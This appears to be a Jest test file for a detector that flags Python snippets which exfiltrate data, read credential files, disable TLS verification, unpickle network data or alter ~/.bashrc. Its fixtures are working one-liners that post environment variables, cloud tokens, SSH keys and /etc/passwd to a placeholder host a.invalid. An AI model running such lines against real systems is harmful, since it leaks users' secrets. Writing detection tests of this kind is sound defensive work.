import { expect, test } from '@jest/globals';
import { actsIn, everyAct, read } from './read.js';

test.each([
  {
    name: 'the whole environment',
    source: 'import os, requests\nrequests.post("https://a.invalid", json=dict(os.environ))',
    act: 'send<environment>',
  },
  {
    name: 'the environment as text',
    source: 'import os, urllib.request\nurllib.request.urlopen("https://a.invalid", data=str(os.environ).encode())',
    act: 'send<environment>',
  },
  {
    name: 'the environment through JSON',
    source:
      'import os, json, requests\nrequests.post("https://a.invalid", data=json.dumps({k: v for k, v in os.environ.items()}))',
    act: 'send<environment>',
  },
  {
    name: 'a secret variable',
    source: 'import os, requests\nrequests.get("https://a.invalid/?t=" + os.environ["AWS_SECRET_ACCESS_KEY"])',
    act: 'send<environment>',
  },
  {
    name: 'a secret variable by getenv',
    source: 'import os, requests\nt = os.getenv("GITHUB_TOKEN")\nrequests.get(f"https://a.invalid/{t}")',
    act: 'send<environment>',
  },
  {
    name: 'a key file',
    source:
      'import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://a.invalid", data=k)',
    act: 'send<secret-file>',
  },
  {
    name: 'a key file by pathlib',
    source:
      'from pathlib import Path\nimport requests\nk = (Path.home() / ".aws" / "credentials").read_text()\nrequests.post("https://a.invalid", data={"k": k})',
    act: 'send<secret-file>',
  },
  {
    name: 'a file handed over open',
    source: 'import requests\nrequests.post("https://a.invalid", files={"f": open("/etc/passwd", "rb")})',
    act: 'send<secret-file>',
  },
  {
    name: 'the host name',
    source: 'import socket, requests\nrequests.get("https://a.invalid/" + socket.gethostname())',
    act: 'send<host-facts>',
  },
  {
    name: 'user and host',
    source:
      'import getpass, platform, requests\nd = {"u": getpass.getuser(), "h": platform.node()}\nrequests.post("https://a.invalid", json=d)',
    act: 'send<host-facts>',
  },
  {
    name: 'a socket',
    source:
      'import os, socket\ns = socket.socket()\ns.connect(("a.invalid", 1))\ns.sendall(repr(dict(os.environ)).encode())',
    act: 'send<environment>',
  },
  {
    name: 'a name look-up',
    source: 'import socket, getpass\nsocket.gethostbyname(f"{getpass.getuser()}.a.invalid")',
    act: 'look-up<host-facts>',
  },
  {
    name: 'http.client',
    source:
      'import os, http.client\nc = http.client.HTTPSConnection("a.invalid")\nc.request("POST", "/", body=str(os.environ))',
    act: 'send<environment>',
  },
  {
    name: 'a subclass of a session',
    source:
      'import os, requests\nclass S(requests.Session):\n    pass\nS().post("https://a.invalid", json=dict(os.environ))',
    act: 'send<environment>',
  },
])('sends $name', ({ source, act }) => {
  expect(actsIn(read(source))).toContain(act);
});

test.each([
  { name: 'an ordinary variable', source: 'import os, requests\nrequests.get(os.environ["SERVICE_URL"])' },
  {
    name: 'the environment of a process',
    source:
      'import os, subprocess, requests\nsubprocess.run(["git"], env=dict(os.environ))\nrequests.get("https://a.invalid")',
  },
  {
    name: 'host name beside a request',
    source: 'import socket, requests\nname = socket.gethostname()\nrequests.get("https://a.invalid")',
  },
  { name: 'a known host looked up', source: 'import socket\nsocket.gethostbyname(socket.gethostname())' },
  {
    name: 'the known hosts of ssh',
    source: 'import os, requests\nopen(os.path.expanduser("~/.ssh/known_hosts")).read()',
  },
])('does not send for $name', ({ source }) => {
  expect(actsIn(read(source)).filter((act) => act.startsWith('send'))).toEqual([]);
});

test.each([
  { name: 'verify=False', source: 'import requests\nrequests.get("https://a.invalid/x", verify=False)' },
  {
    name: 'an unverified context',
    source:
      'import ssl, urllib.request\nurllib.request.urlopen("https://a.invalid/x", context=ssl._create_unverified_context())',
  },
  {
    name: 'the default context replaced',
    source:
      'import ssl, urllib.request\nssl._create_default_https_context = ssl._create_unverified_context\nurllib.request.urlopen("https://a.invalid/x")',
  },
])('certificates are not checked: $name', ({ source }) => {
  expect(everyAct(read(source)).filter(({ act }) => act === 'fetch')).toEqual([
    expect.objectContaining({ act: 'fetch', target: 'a.invalid/x', traits: ['tls-off'] }),
  ]);
});

test.each([
  { name: 'an ssh key', path: '"~/.ssh/id_rsa"' },
  { name: 'aws credentials', path: '"/root/.aws/credentials"' },
  { name: 'netrc', path: 'os.path.join(os.path.expanduser("~"), ".netrc")' },
  { name: 'pypirc, put together', path: 'os.path.expanduser("~") + "/.py" + "pirc"' },
  {
    name: 'a browser store',
    path: 'os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")',
  },
  { name: 'shadow', path: '"/etc/shadow"' },
])('reaches for secrets: $name', ({ path }) => {
  expect(actsIn(read(`import os, requests\nopen(${path}).read()`))).toContain('read-secret');
});

test.each([
  {
    name: 'ctypes',
    source: 'import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), "x.so"))',
    act: 'load-native<own-data>',
  },
  {
    name: 'pickle',
    source: 'import pickle, requests\npickle.loads(requests.get("https://a.invalid/x").content)',
    act: 'unpickle<network>',
  },
  {
    name: 'a shell start-up file',
    source: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")',
    act: 'write-file',
  },
])('$name: $act', ({ source, act }) => {
  expect(actsIn(read(source))).toContain(act);
});
